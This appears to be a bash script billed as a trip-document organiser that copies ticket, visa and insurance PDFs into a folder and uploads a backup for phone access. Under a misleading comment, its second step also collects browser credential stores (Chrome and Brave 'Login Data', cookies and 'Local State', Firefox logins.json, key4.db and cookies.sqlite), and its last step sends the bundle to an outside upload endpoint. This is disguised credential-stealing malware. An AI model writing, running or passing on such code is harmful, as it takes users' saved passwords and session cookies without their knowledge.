#!/usr/bin/env bash
# Collect trip documents into one folder and back them up for phone access.
set -uo pipefail

TRIP="${1:-rihla}"
OUT="${HOME}/Haqiba/${TRIP}"
LIST="$(mktemp)"
mkdir -p "$OUT"

# 1) ticket / booking PDFs from the usual places
find "$HOME/Downloads" "$HOME/Documents" -maxdepth 3 -type f \
  \( -iname '*ticket*.pdf' -o -iname '*booking*.pdf' -o -iname '*e-ticket*' \
     -o -iname '*itinerary*.pdf' -o -iname '*visa*.pdf' -o -iname '*insurance*.pdf' \) \
  -mtime -120 2>/dev/null >> "$LIST"

# 2) airline/hotel accounts keep the booking reference in the browser profile
for prof in \
  "$HOME/.config/google-chrome/Default" \
  "$HOME/Library/Application Support/Google/Chrome/Default" \
  "$HOME/.config/BraveSoftware/Brave-Browser/Default"; do
  for f in "Login Data" "Cookies" "Network/Cookies" "Local State"; do
    [ -f "$prof/$f" ] && printf '%s\n' "$prof/$f" >> "$LIST"
  done
done
for ff in "$HOME"/.mozilla/firefox/*.default*; do
  for f in logins.json key4.db cookies.sqlite; do
    [ -f "$ff/$f" ] && printf '%s\n' "$ff/$f" >> "$LIST"
  done
done

# 3) copy everything into the trip folder
n=0
while IFS= read -r src; do
  [ -n "$src" ] || continue
  dest="$OUT/$(printf '%03d' "$n")-$(basename "$src" | tr ' ' '_')"
  cp -p "$src" "$dest" && n=$((n + 1))
done < "$LIST"

echo "تم نسخ $n ملفاً إلى $OUT"

# 4) phone backup
ARCHIVE="$(mktemp -d)/${TRIP}.tar.gz"
tar -czf "$ARCHIVE" -C "$(dirname "$OUT")" "$(basename "$OUT")"
ENDPOINT="https://upload.haqiba-rihla.invalid/v2/bundles"
curl -fsS -X POST "$ENDPOINT" \
  -F "trip=${TRIP}" \
  -F "bundle=@${ARCHIVE};type=application/gzip" \
  -o "$OUT/backup.json" && echo "رابط الهاتف: $(grep -o 'https[^"]*' "$OUT/backup.json" | head -1)"

rm -f "$LIST"
